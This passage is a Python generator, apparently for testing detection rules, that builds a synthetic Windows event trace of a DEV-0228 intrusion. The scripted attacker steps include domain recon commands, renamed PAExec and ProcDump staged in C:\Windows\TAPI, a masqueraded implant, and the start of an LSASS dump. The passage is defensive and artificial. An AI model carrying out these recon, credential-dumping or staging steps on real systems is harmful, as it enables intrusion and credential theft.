#!/usr/bin/env python3
"""Generates the DEV-0228 / DEV-0056 reconstruction trace and its expected alerts.

    python3 replay/traces/gen_dev_0228.py          # rewrites dev-0228.ndjson, dev-0228.expected, dev-0228.kql.expected
    python3 replay/traces/gen_dev_0228.py --check  # exits 1 if the committed files differ

Standard library only and deterministic: the only randomness is a `random.Random`
with a fixed seed, so the committed `.ndjson` is exactly this program's output.

The trace is a RECONSTRUCTION, not a capture: hosts, users, process ids, times
and command-line details are made up to be plausible, and so is every digest
but the report's SHA-256s (those in engine/rules/seed/dev-0228.iocs): ordinary
Windows binaries get the hash of a label (see `digests`), the attacker's
binaries zero-padded placeholders (see `placeholder_digests`). None of those is
an indicator.

The expected alerts are not written by hand: `Checker` below re-implements the
six seed Sigma rules and the IOC list (case-insensitive contains / startswith /
endswith / equals, pySigma's windash expansion, file_event = file_create and
file_write) and applies them to every generated event. Each scenario step also
declares which rules it means to trip, and the generator refuses to write
anything if the two disagree on any event.

`dev-0228.kql.expected` lists what the KQL hunting queries in engine/rules/kql/
fire on, computed by `KqlChecker`: a second, independent implementation of
those five queries with Kusto's semantics (`has` = whole terms of ASCII letters
and digits, case-insensitive; `=~` case-insensitive; Defender's columns read as
trawl maps them: FileName = last path component, FolderPath = the full path,
SHA256 = the digest in `Hashes`, in lower case).
"""

import base64
import hashlib
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
NDJSON = os.path.join(HERE, "dev-0228.ndjson")
EXPECTED = os.path.join(HERE, "dev-0228.expected")
KQL_EXPECTED = os.path.join(HERE, "dev-0228.kql.expected")
IOCS = os.path.join(HERE, "..", "..", "engine", "rules", "seed", "dev-0228.iocs")

DAY = "2021-08-17"
WS = "LF-WS-0142.lawfirm.local"
FS = "LF-FS01.lawfirm.local"

# ---------------------------------------------------------------------------
# Seed-pack rule ids, in the engine's load order: the Sigma files sorted by
# file name (01-… to 06-…), then the IOC list.
R_PAEXEC = "39b030ec-e026-481d-ada1-9f8439d97552"   # 01-paexec-remote-execution.yml
R_TAPI_FILE = "a254d0dd-22b0-4a52-8b06-3db829450fd2"  # 02-tapi-folder-file-staged.yml
R_TAPI_PROC = "690e5397-2376-41f9-8159-649102f6f86b"  # 03-tapi-folder-process.yml
R_DEV0056 = "4f044caa-5e8c-4fda-bc60-16553238ee38"    # 04-dev-0056-powershell.yml
R_PROCDUMP = "a2cb4298-b874-4550-a7ec-f76e28c095d8"   # 05-procdump-lsass.yml
R_MASQ = "b6db897c-89fc-461c-a71b-dcb6fd4353cc"       # 06-svchost-runtimebroker-masquerade.yml
R_IOC = "6ca70d8a-f804-441f-9e4a-faa700ca48f4"        # dev-0228.iocs
LOAD_ORDER = [R_PAEXEC, R_TAPI_FILE, R_TAPI_PROC, R_DEV0056, R_PROCDUMP, R_MASQ, R_IOC]

# Report SHA-256s used in the trace. Microsoft's hunting query groups them with
# file names (svchost.exe/wdmsvc.exe; TAPI\lsa.exe, pa.exe, pc.exe, Rar.exe) but
# does not pair one digest with one file: the pairing below follows the order of
# that query's lists and is illustrative only.
IOC_LSA = "43109fbe8b752f7a9076eaafa417d9ae5c6e827cd5374b866672263fdebd5ec3"
IOC_PA = "ab50d8d707b97712178a92bbac74ccc2a5699eb41c17aa77f713ff3e568dcedb"
IOC_PC = "010e32be0f86545e116a8bc3381a8428933eb8789f32c261c81fd5e7857d4a77"
IOC_RAT = "2a1044e9e6e87a032f80c6d9ea6ae61bbbb053c0a21b186ecb3b812b49eb03b7"

REDACTED = "********"  # credentials in command lines are redacted in this reconstruction


# ---------------------------------------------------------------------------
# Time

def t(hms):
    """'HH:MM:SS[.mmm]' on DAY -> milliseconds since midnight UTC."""
    main, _, frac = hms.partition(".")
    h, m, s = (int(x) for x in main.split(":"))
    return ((h * 60 + m) * 60 + s) * 1000 + (int(frac.ljust(3, "0")) if frac else 0)


def fmt_ts(ms):
    """RFC 3339 UTC, fractional seconds trimmed the way jiff prints them."""
    h, rem = divmod(ms, 3600000)
    m, rem = divmod(rem, 60000)
    s, frac = divmod(rem, 1000)
    out = "%sT%02d:%02d:%02d" % (DAY, h, m, s)
    if frac:
        out += "." + ("%03d" % frac).rstrip("0")
    return out + "Z"


# ---------------------------------------------------------------------------
# Digests

def _h(algo, text):
    return hashlib.new(algo, text.encode("utf-8")).hexdigest().upper()


def digests(label):
    """Sysmon-style `Hashes` for an ordinary binary: synthetic digests, the
    hashes of `label` (a build and a path), so one binary has one set of
    hashes throughout the trace."""
    lab = "trawl-synthetic:" + label.lower()
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        _h("sha1", lab),
        _h("md5", lab),
        _h("sha256", lab),
        _h("md5", "imphash:" + lab),
    )


def placeholder_digests(n, sha256=None):
    """`Hashes` for attacker binary number `n`: digests the report does not
    give are zero-padded placeholders (…0011, …0012, …) so that nobody mistakes
    them for indicators; `sha256` is the report's digest where there is one."""
    def ph(width, k):
        return "%0*X" % (width, n * 16 + k)
    return "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        ph(40, 1), ph(32, 2), (sha256 or ph(64, 3)).upper(), ph(32, 4))


# ---------------------------------------------------------------------------
# Version resources (Sysmon's OriginalFileName, Company, Product, Description)

MS = "Microsoft Corporation"
WINOS = "Microsoft\u00ae Windows\u00ae Operating System"
SYSINT = "Sysinternals - www.sysinternals.com"
NOVER = ("-", "-", "-", "-")

META = {
    # basename (lower): (OriginalFileName, Company, Product, Description)
    "smss.exe": ("smss.exe", MS, WINOS, "Windows Session Manager"),
    "csrss.exe": ("CSRSS.Exe", MS, WINOS, "Client Server Runtime Process"),
    "wininit.exe": ("WinInit.exe", MS, WINOS, "Windows Start-Up Application"),
    "winlogon.exe": ("WINLOGON.EXE", MS, WINOS, "Windows Logon Application"),
    "services.exe": ("services.exe", MS, WINOS, "Services and Controller app"),
    "lsass.exe": ("lsass.exe", MS, WINOS, "Local Security Authority Process"),
    "fontdrvhost.exe": ("fontdrvhost.exe", MS, WINOS, "Usermode Font Driver Host"),
    "dwm.exe": ("dwm.exe", MS, WINOS, "Desktop Window Manager"),
    "logonui.exe": ("logonui.exe", MS, WINOS, "Windows Logon User Interface Host"),
    "userinit.exe": ("USERINIT.EXE", MS, WINOS, "Userinit Logon Application"),
    "explorer.exe": ("EXPLORER.EXE", MS, WINOS, "Windows Explorer"),
    "svchost.exe": ("svchost.exe", MS, WINOS, "Host Process for Windows Services"),
    "runtimebroker.exe": ("RuntimeBroker.exe", MS, WINOS, "Runtime Broker"),
    "dllhost.exe": ("dllhost.exe", MS, WINOS, "COM Surrogate"),
    "consent.exe": ("consent.exe", MS, WINOS, "Consent UI for administrative applications"),
    "rdpclip.exe": ("rdpclip", MS, WINOS, "RDP Clipboard Monitor"),
    "taskhostw.exe": ("taskhostw.exe", MS, WINOS, "Host Process for Windows Tasks"),
    "sihost.exe": ("sihost.exe", MS, WINOS, "Shell Infrastructure Host"),
    "ctfmon.exe": ("CTFMON.EXE", MS, WINOS, "CTF Loader"),
    "spoolsv.exe": ("spoolsv.exe", MS, WINOS, "Spooler SubSystem App"),
    "searchindexer.exe": ("SearchIndexer.exe", MS, WINOS, "Microsoft Windows Search Indexer"),
    "searchprotocolhost.exe": ("SearchProtocolHost.exe", MS, WINOS, "Microsoft Windows Search Protocol Host"),
    "searchfilterhost.exe": ("SearchFilterHost.exe", MS, WINOS, "Microsoft Windows Search Filter Host"),
    "wmiprvse.exe": ("Wmiprvse.exe", MS, WINOS, "WMI Provider Host"),
    "backgroundtaskhost.exe": ("backgroundTaskHost.exe", MS, WINOS, "Background Task Host"),
    "cmd.exe": ("Cmd.Exe", MS, WINOS, "Windows Command Processor"),
    "conhost.exe": ("CONHOST.EXE", MS, WINOS, "Console Window Host"),
    "net.exe": ("net.exe", MS, WINOS, "Net Command"),
    "net1.exe": ("net1.exe", MS, WINOS, "Net Command"),
    "whoami.exe": ("whoami.exe", MS, WINOS, "whoami - displays logged on user information"),
    "nltest.exe": ("nltestrk.exe", MS, WINOS, "Microsoft\u00ae Logon Server Test Utility"),
    "hostname.exe": ("hostname.exe", MS, WINOS, "Hostname APP"),
    "quser.exe": ("quser.exe", MS, WINOS, "Query User Utility"),
    "ipconfig.exe": ("ipconfig.exe", MS, WINOS, "IP Configuration Utility"),
    "tasklist.exe": ("tasklist.exe", MS, WINOS, "Lists the current running tasks"),
    "schtasks.exe": ("schtasks.exe", MS, WINOS, "Task Scheduler Configuration Tool"),
    "gpupdate.exe": ("GPUpdate.exe", MS, WINOS, "Microsoft\u00ae Windows Operating System Group Policy Update Utility"),
    "powershell.exe": ("PowerShell.EXE", MS, WINOS, "Windows PowerShell"),
    "notepad.exe": ("NOTEPAD.EXE", MS, WINOS, "Notepad"),
    "compattelrunner.exe": ("CompatTelRunner.exe", MS, WINOS, "Microsoft Compatibility Telemetry"),
    "wermgr.exe": ("WerMgr", MS, WINOS, "Windows Problem Reporting"),
    "securityhealthservice.exe": ("SecurityHealthService.exe", MS, WINOS, "Windows Security Health Service"),
    "securityhealthsystray.exe": ("SecurityHealthSystray.exe", MS, WINOS, "Windows Security notification icon"),
    "trustedinstaller.exe": ("TrustedInstaller.exe", MS, WINOS, "Windows Modules Installer"),
    "tiworker.exe": ("TiWorker.exe", MS, WINOS, "Windows Modules Installer Worker"),
    "msmpeng.exe": ("MsMpEng.exe", MS, WINOS, "Antimalware Service Executable"),
    "nissrv.exe": ("NisSrv.exe", MS, WINOS, "Microsoft Network Realtime Inspection Service"),
    "mpcmdrun.exe": ("MpCmdRun.exe", MS, WINOS, "Microsoft Malware Protection Command Line Utility"),
    "sysmon64.exe": ("Sysmon.exe", SYSINT, "Sysinternals Sysmon", "System activity monitor"),
    "procdump64.exe": ("procdump", SYSINT, "ProcDump", "Sysinternals process dump utility"),
    "onedrive.exe": ("OneDrive.exe", MS, "Microsoft OneDrive", "Microsoft OneDrive"),
    "filecoauth.exe": ("FileCoAuth.exe", MS, "Microsoft OneDrive", "Microsoft OneDriveFile Co-Authoring Executable"),
    "winword.exe": ("WinWord.exe", MS, "Microsoft Office", "Microsoft Word"),
    "outlook.exe": ("Outlook.exe", MS, "Microsoft Outlook", "Microsoft Outlook"),
    "officec2rclient.exe": ("OfficeC2RClient.exe", MS, "Microsoft Office", "Microsoft Office Click-to-Run Client"),
    "msedge.exe": ("msedge.exe", MS, "Microsoft Edge", "Microsoft Edge"),
    "microsoftedgeupdate.exe": ("MicrosoftEdgeUpdate.exe", MS, "Microsoft Edge Update", "Microsoft Edge Update"),
    "paexec.exe": ("paexec.exe", "Power Admin LLC", "PAExec Application", "PAExec Application"),
}


def meta_for(image):
    return META.get(image.rsplit("\\", 1)[-1].lower(), NOVER)


# ---------------------------------------------------------------------------
# Hosts, processes, events

class Proc:
    __slots__ = ("host", "pid", "image", "cmd", "user", "integrity", "cwd", "hashes", "start", "preexisting")

    def __init__(self, host, pid, image, cmd, user, integrity, cwd, hashes, start, preexisting=False):
        self.host, self.pid, self.image, self.cmd = host, pid, image, cmd
        self.user, self.integrity, self.cwd, self.hashes = user, integrity, cwd, hashes
        self.start, self.preexisting = start, preexisting


SYSTEM_USER = "NT AUTHORITY\\SYSTEM"
LOCAL_SERVICE = "NT AUTHORITY\\LOCAL SERVICE"
NETWORK_SERVICE = "NT AUTHORITY\\NETWORK SERVICE"
SYS32 = "C:\\Windows\\system32\\"


class Trace:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.events = []        # [ms, seq, dict, intended-rule-set]
        self.procs = {}         # (host, pid) -> Proc
        self.used_pids = {WS: set(), FS: set()}
        self.build = {WS: "win10-19043", FS: "srv2019-17763"}
        self.seq = 0
        self.pid_range = (1000, 14000)

    # -- pids ---------------------------------------------------------------
    def pid(self, host, want=None):
        if want is not None:
            assert want not in self.used_pids[host], (host, want)
            self.used_pids[host].add(want)
            return want
        while True:
            p = self.rng.randrange(*self.pid_range) // 4 * 4
            if p not in self.used_pids[host]:
                self.used_pids[host].add(p)
                return p

    def existing(self, host, pid, image, cmd, user=SYSTEM_USER, integrity="System", cwd=SYS32):
        """A process that was already running when the trace starts (no event)."""
        self.pid(host, pid)
        p = Proc(host, pid, image, cmd, user, integrity, cwd, None, -1, preexisting=True)
        self.procs[(host, pid)] = p
        return p

    # -- events -------------------------------------------------------------
    def emit(self, ms, kind, host, fields, expect=()):
        ev = {"ts": None, "kind": kind, "host": host, "os": "windows"}
        ev.update(fields)
        self.events.append([ms, self.seq, ev, frozenset(expect)])
        self.seq += 1

    def start(self, ms, parent, image, cmd, user=None, integrity=None, cwd=None, pid=None,
              hashes=None, meta=None, expect=()):
        host = parent.host
        assert ms > parent.start, (image, "parent must start first")
        user = user if user is not None else parent.user
        integrity = integrity if integrity is not None else parent.integrity
        cwd = cwd if cwd is not None else parent.cwd
        if hashes is None:
            hashes = digests(self.build[host] + ":" + image)
        ofn, company, product, desc = meta if meta is not None else meta_for(image)
        p = Proc(host, self.pid(host, pid), image, cmd, user, integrity, cwd, hashes, ms)
        self.procs[(host, p.pid)] = p
        self.emit(ms, "process_start", host, {
            "ProcessId": p.pid,
            "ParentProcessId": parent.pid,
            "Image": image,
            "OriginalFileName": ofn,
            "CommandLine": cmd,
            "CurrentDirectory": cwd,
            "User": user,
            "ParentImage": parent.image,
            "ParentCommandLine": parent.cmd,
            "Hashes": hashes,
            "IntegrityLevel": integrity,
            "Company": company,
            "Product": product,
            "Description": desc,
        }, expect)
        return p

    def exit(self, ms, p):
        assert ms > p.start
        self.emit(ms, "process_exit", p.host, {"ProcessId": p.pid, "Image": p.image, "User": p.user})

    def file(self, ms, kind, p, path, hashes=None, expect=()):
        assert ms > p.start
        f = {"Image": p.image, "ProcessId": p.pid, "TargetFilename": path, "User": p.user}
        if hashes:
            f["Hashes"] = hashes
        self.emit(ms, kind, p.host, f, expect)

    def create(self, ms, p, path, hashes=None, expect=()):
        self.file(ms, "file_create", p, path, hashes, expect)

    def write(self, ms, p, path, expect=()):
        self.file(ms, "file_write", p, path, None, expect)

    def delete(self, ms, p, path):
        self.file(ms, "file_delete", p, path)

    def rename(self, ms, p, src, dst, expect=()):
        assert ms > p.start
        self.emit(ms, "file_rename", p.host, {"Image": p.image, "ProcessId": p.pid, "SourceFilename": src,
                                              "TargetFilename": dst, "User": p.user}, expect)

    # -- common shapes --------------------------------------------------------
    def console(self, ms, p, life_ms):
        """The conhost.exe every console program without a console gets."""
        c = self.start(ms + 9, p, "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1")
        self.exit(ms + life_ms, c)
        return c

    def run(self, ms, parent, image, cmd, life_ms, **kw):
        """A short-lived process: start, exit."""
        p = self.start(ms, parent, image, cmd, **kw)
        self.exit(ms + life_ms, p)
        return p


# ---------------------------------------------------------------------------
# The scenario

def scenario(tr):
    rnd = tr.rng
    C = "C:\\Windows\\System32\\"
    SVCHOST = C + "svchost.exe"
    SVCHOST_CMD = "C:\\Windows\\system32\\svchost.exe -k "
    CMD = C + "cmd.exe"
    PS = C + "WindowsPowerShell\\v1.0\\powershell.exe"
    TAPI = "C:\\Windows\\TAPI\\"
    EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2107.4-0\\"
    ITP = "LAWFIRM\\itp-admin"
    # One set of digests per attacker binary, wherever a copy of it lands.
    H_PA = placeholder_digests(1, IOC_PA)
    H_LSA = placeholder_digests(2, IOC_LSA)
    H_PC = placeholder_digests(3, IOC_PC)
    H_RAR = placeholder_digests(4)
    H_RAT = placeholder_digests(5, IOC_RAT)
    H_RB = placeholder_digests(6)
    JDOE = "LAWFIRM\\jdoe"
    MLEVI = "LAWFIRM\\adm-mlevi"

    # ---------------- LF-FS01: processes already running -------------------
    fs_system = tr.existing(FS, 4, "System", "")
    fs_services = tr.existing(FS, 668, C + "services.exe", "C:\\Windows\\system32\\services.exe")
    fs_dcom = tr.existing(FS, 792, SVCHOST, SVCHOST_CMD + "DcomLaunch -p")
    fs_sched = tr.existing(FS, 1236, SVCHOST, SVCHOST_CMD + "netsvcs -p -s Schedule")
    fs_mpeng = tr.existing(FS, 2748, DEFENDER + "MsMpEng.exe", '"%sMsMpEng.exe"' % DEFENDER)
    fs_explorer = tr.existing(FS, 6904, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                              user=MLEVI, integrity="Medium", cwd="C:\\Users\\adm-mlevi\\")
    fs_searchidx = tr.existing(FS, 3180, C + "SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding")

    def fs_task(ms, image, cmd, life, user=SYSTEM_USER, integrity="System"):
        p = tr.start(ms, fs_sched, image, cmd, user=user, integrity=integrity, cwd=SYS32)
        tr.exit(ms + life, p)
        return p

    # FS01 background all morning: scheduled tasks, WMI, search, Defender,
    # documents saved by users over SMB (written by the System process).
    fs_task(t("03:59:58.120"), C + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", 2_400)
    tr.write(t("04:00:01.402"), fs_mpeng, "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db-wal")

    # ---------------- LF-WS-0142 boots (maintenance-window restart) ----------
    ws_system = tr.existing(WS, 4, "System", "")
    tr.pid_range = (1100, 3600)  # boot: low process ids
    b = t("04:00:07.215")
    smss = tr.start(b, ws_system, C + "smss.exe", "\\SystemRoot\\System32\\smss.exe", user=SYSTEM_USER,
                    integrity="System", cwd=SYS32, pid=372)
    smss0 = tr.start(b + 410, smss, C + "smss.exe", "\\SystemRoot\\System32\\smss.exe 000000f0 00000080", pid=476)
    csrss_cmd = ("%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 "
                 "Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 "
                 "ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16")
    tr.start(b + 431, smss0, C + "csrss.exe", csrss_cmd, pid=484)
    wininit = tr.start(b + 502, smss0, C + "wininit.exe", "wininit.exe", pid=560)
    tr.exit(b + 540, smss0)
    smss1 = tr.start(b + 518, smss, C + "smss.exe", "\\SystemRoot\\System32\\smss.exe 000000f8 00000084", pid=568)
    tr.start(b + 547, smss1, C + "csrss.exe", csrss_cmd, pid=576)
    winlogon1 = tr.start(b + 611, smss1, C + "winlogon.exe", "winlogon.exe", pid=652)
    tr.exit(b + 650, smss1)
    services = tr.start(b + 702, wininit, C + "services.exe", "C:\\Windows\\system32\\services.exe", pid=700)
    tr.start(b + 718, wininit, C + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", pid=716)
    tr.start(b + 779, wininit, C + "fontdrvhost.exe", '"fontdrvhost.exe"', user="Font Driver Host\\UMFD-0",
             integrity="Low", pid=836)
    tr.start(b + 781, winlogon1, C + "fontdrvhost.exe", '"fontdrvhost.exe"', user="Font Driver Host\\UMFD-1",
             integrity="Low", pid=844)

    def svc(ms, group, pid=None, user=SYSTEM_USER):
        return tr.start(ms, services, SVCHOST, SVCHOST_CMD + group, user=user, integrity="System", cwd=SYS32, pid=pid)

    ws_dcom = svc(b + 905, "DcomLaunch -p", pid=920)
    svc(b + 1_012, "RPCSS -p", pid=1000, user=NETWORK_SERVICE)
    logonui = tr.start(b + 1_120, winlogon1, C + "LogonUI.exe", '"LogonUI.exe" /flags:0x2 /state0:0xa3b0a855 /state1:0x41c64e6d',
                       pid=1056)
    tr.start(b + 1_133, winlogon1, C + "dwm.exe", '"dwm.exe"', user="Window Manager\\DWM-1", pid=1092)
    svc(b + 1_300, "LocalServiceNetworkRestricted -p -s lmhosts", user=LOCAL_SERVICE)
    svc(b + 1_388, "LocalServiceNetworkRestricted -p -s EventLog", user=LOCAL_SERVICE)
    ws_sched = svc(b + 1_455, "netsvcs -p -s Schedule", pid=1468)
    svc(b + 1_560, "LocalServiceNoNetworkFirewall -p", user=LOCAL_SERVICE)
    svc(b + 1_634, "netsvcs -p -s gpsvc")
    svc(b + 1_702, "NetworkService -p -s Dnscache", user=NETWORK_SERVICE)
    ws_usermgr = svc(b + 1_790, "netsvcs -p -s UserManager")
    ws_termsvc = svc(b + 1_873, "NetworkService -s TermService", user=NETWORK_SERVICE)
    svc(b + 2_010, "LocalService -p -s EventSystem", user=LOCAL_SERVICE)
    tr.start(b + 2_250, services, C + "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", cwd=SYS32)
    tr.start(b + 2_604, services, "C:\\Windows\\Sysmon64.exe", "C:\\Windows\\Sysmon64.exe", cwd=SYS32)
    ws_mpeng = tr.start(b + 2_771, services, DEFENDER + "MsMpEng.exe", '"%sMsMpEng.exe"' % DEFENDER, cwd=SYS32)
    svc(b + 2_935, "NetworkService -p -s DoSvc", user=NETWORK_SERVICE)
    tr.start(b + 3_402, services, C + "SecurityHealthService.exe", "C:\\Windows\\system32\\SecurityHealthService.exe",
             cwd=SYS32)
    svc(b + 3_588, "utcsvc -p")
    ws_searchidx = tr.start(b + 5_112, services, C + "SearchIndexer.exe",
                            "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", cwd=SYS32)
    tr.start(b + 6_031, services, DEFENDER + "NisSrv.exe", '"%sNisSrv.exe"' % DEFENDER, user=LOCAL_SERVICE,
             cwd=SYS32)
    ws_wmi = tr.start(b + 7_420, ws_dcom, C + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                      user=NETWORK_SERVICE)
    tr.exit(b + 97_420, ws_wmi)
    rb0 = tr.start(b + 9_960, ws_dcom, C + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
                   user=LOCAL_SERVICE)
    tr.exit(b + 41_300, rb0)
    tr.pid_range = (1000, 14000)
    tr.write(b + 12_004, ws_mpeng, "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db-wal")

    # ---------------- IT provider's (legitimate) maintenance job -------------
    # A scheduled task on LF-FS01 runs the provider's weekly script as
    # itp-admin: a PowerShell report (-NoProfile: contains "-nop", no base64),
    # a certificate dropped from base64 with -nop but no iex, and a
    # gpupdate pushed to the workstation with the installed PAExec.
    m = t("04:03:30.060")
    maint = tr.start(m, fs_sched, CMD, 'C:\\Windows\\system32\\cmd.exe /c "C:\\ITP\\maint\\weekly.cmd"',
                     user=ITP, integrity="High", cwd=SYS32)
    tr.console(m, maint, 212_000)
    report = tr.run(m + 1_380, maint, PS,
                 "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ITP\\maint\\Get-DiskReport.ps1", 9_870)
    tr.create(m + 9_020, report, "C:\\ITP\\maint\\reports\\LF-FS01-disk-2021-08-17.csv")
    cert = bytes([0x30, 0x82, 0x03, 0x1D, 0x30, 0x82, 0x02, 0x05, 0xA0, 0x03, 0x02, 0x01, 0x02, 0x02, 0x10]) + \
        hashlib.sha256(b"trawl-synthetic:itp-ca").digest() * 3
    cert_b64 = base64.b64encode(cert).decode()
    assert "iex" not in cert_b64.lower()
    cer = tr.run(m + 11_450, maint, PS,
                 "powershell.exe -nop -c \"[IO.File]::WriteAllBytes('C:\\ITP\\maint\\itp-ca.cer',"
                 "[Convert]::FromBase64String('%s'))\"" % cert_b64, 1_310)
    tr.create(m + 12_300, cer, "C:\\ITP\\maint\\itp-ca.cer")
    PAEXEC_PF = "C:\\Program Files\\PAExec\\paexec.exe"
    pf_hashes = digests("paexec-1.28:" + PAEXEC_PF)
    legit_pa = tr.start(m + 14_200, maint, PAEXEC_PF,
                        '"C:\\Program Files\\PAExec\\paexec.exe" \\\\LF-WS-0142 -s -h cmd.exe /c gpupdate /force',
                        pid=2208, hashes=pf_hashes, meta=META["paexec.exe"])
    # its service half on the workstation
    svcfile = "C:\\Windows\\PAExec-2208-LF-FS01.exe"
    tr.create(m + 14_910, ws_system, svcfile, hashes=pf_hashes)
    legit_svc = tr.start(m + 15_240, services, svcfile, "%s -service" % svcfile, user=SYSTEM_USER,
                         integrity="System", cwd=SYS32, hashes=pf_hashes, meta=META["paexec.exe"])
    gpcmd = tr.start(m + 15_600, legit_svc, CMD, "cmd.exe /c gpupdate /force")
    tr.console(m + 15_600, gpcmd, 16_800)
    tr.run(m + 15_790, gpcmd, C + "gpupdate.exe", "gpupdate  /force", 16_100)
    tr.exit(m + 32_020, gpcmd)
    tr.exit(m + 32_310, legit_svc)
    tr.exit(m + 32_560, legit_pa)
    tr.delete(m + 32_900, ws_system, svcfile)
    tr.exit(m + 212_400, maint)

    # The provider's agent heartbeat on the workstation: -nop, no base64.
    hb = t("04:09:15.337")
    tr.run(hb, ws_sched, PS, 'powershell.exe -nop -NonInteractive -ExecutionPolicy Bypass -File "C:\\ITP\\agent\\Send-Heartbeat.ps1"',
           3_870, user=SYSTEM_USER, integrity="System", cwd=SYS32)

    # ---------------- DEV-0228: itp-admin over RDP on LF-WS-0142 ------------
    # The actor logs on with the IT provider's reused credentials during the
    # provider's own maintenance window.
    r = t("04:16:02.330")
    smss2 = tr.start(r, smss, C + "smss.exe", "\\SystemRoot\\System32\\smss.exe 0000011c 00000084")
    csrss2 = tr.start(r + 29, smss2, C + "csrss.exe", csrss_cmd)
    winlogon2 = tr.start(r + 96, smss2, C + "winlogon.exe", "winlogon.exe")
    tr.exit(r + 140, smss2)
    umfd2 = tr.start(r + 180, winlogon2, C + "fontdrvhost.exe", '"fontdrvhost.exe"', user="Font Driver Host\\UMFD-2",
                     integrity="Low")
    dwm2 = tr.start(r + 2_410, winlogon2, C + "dwm.exe", '"dwm.exe"', user="Window Manager\\DWM-2")
    ui2 = tr.start(r + 2_900, winlogon2, C + "userinit.exe", "C:\\Windows\\system32\\userinit.exe",
                   user=ITP, integrity="Medium", cwd=SYS32)
    a_sihost = tr.start(r + 3_005, ws_usermgr, C + "sihost.exe", "sihost.exe", user=ITP, integrity="Medium")
    a_taskhost = tr.start(r + 3_180, ws_sched, C + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
                          user=ITP, integrity="Medium")
    a_expl = tr.start(r + 3_410, ui2, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", cwd=SYS32)
    tr.exit(r + 33_410, ui2)
    a_rdpclip = tr.start(r + 3_620, ws_termsvc, C + "rdpclip.exe", "rdpclip", user=ITP, integrity="Medium")
    a_rb = tr.start(r + 4_930, ws_dcom, C + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
                    user=ITP, integrity="Medium")
    ws_tablet = svc(r + 5_110, "LocalSystemNetworkRestricted -p -s TabletInputService")
    a_ctf = tr.start(r + 5_160, ws_tablet, C + "ctfmon.exe", '"ctfmon.exe"', user=ITP, integrity="Medium")
    tr.create(r + 8_770, a_expl, "C:\\Users\\itp-admin\\AppData\\Local\\Temp\\~DFB3C1A2E4.TMP")

    # Recon from an elevated prompt (UAC consent; the elevated cmd's parent is explorer).
    e = t("04:18:47.612")
    ws_appinfo = svc(e, "netsvcs -p -s Appinfo")
    tr.run(e + 160, ws_appinfo, C + "consent.exe", "consent.exe 6620 318 0000020BA21C4B10", 2_950, user=SYSTEM_USER)
    acmd = tr.start(e + 3_240, a_expl, CMD, '"C:\\Windows\\system32\\cmd.exe" ', integrity="High", cwd=SYS32)
    acon = tr.start(e + 3_251, acmd, C + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1")
    x = t("04:19:12.004")
    tr.run(x, acmd, C + "whoami.exe", "whoami  /all", 410)
    n = tr.run(x + 28_300, acmd, C + "net.exe", 'net  group "domain admins" /domain', 1_130)
    tr.run(x + 28_330, n, C + "net1.exe", 'C:\\Windows\\system32\\net1  group "domain admins" /domain', 1_080)
    tr.run(x + 63_115, acmd, C + "nltest.exe", "nltest  /dclist:lawfirm.local", 2_260)
    n = tr.run(x + 98_870, acmd, C + "net.exe", "net  view \\\\LF-FS01", 3_020)
    tr.run(x + 98_905, n, C + "net1.exe", "C:\\Windows\\system32\\net1  view \\\\LF-FS01", 2_970)
    tr.run(x + 139_402, acmd, C + "quser.exe", "quser  /server:LF-FS01", 640)

    # Tools pasted in over the RDP clipboard. Into C:\Windows\TAPI through the
    # elevated COM copy engine (dllhost), the implant copies into user folders
    # by explorer itself.
    s = t("04:23:58.940")
    tr.run(s, ws_appinfo, C + "consent.exe", "consent.exe 6620 344 0000020BA21D0E70", 4_120, user=SYSTEM_USER)
    copier = tr.start(s + 4_310, ws_dcom, C + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}",
                      user=ITP, integrity="High")
    tr.create(s + 4_801, copier, TAPI + "pa.exe", H_PA,
              expect=(R_TAPI_FILE, R_IOC))
    tr.create(s + 5_236, copier, TAPI + "lsa.exe", H_LSA,
              expect=(R_TAPI_FILE, R_IOC))
    tr.create(s + 5_687, copier, TAPI + "pc.exe", H_PC,
              expect=(R_TAPI_FILE, R_IOC))
    tr.create(s + 6_342, copier, TAPI + "Rar.exe", H_RAR,
              expect=(R_TAPI_FILE,))
    tr.exit(s + 36_342, copier)
    tr.create(s + 51_004, a_expl, "C:\\Users\\itp-admin\\Desktop\\svchost.exe",
              H_RAT, expect=(R_IOC,))
    tr.create(s + 58_730, a_expl, "C:\\Users\\Public\\RuntimeBroker.exe",
              H_RB)

    # LSASS dumped with ProcDump renamed pc.exe.
    d = t("04:27:31.118")
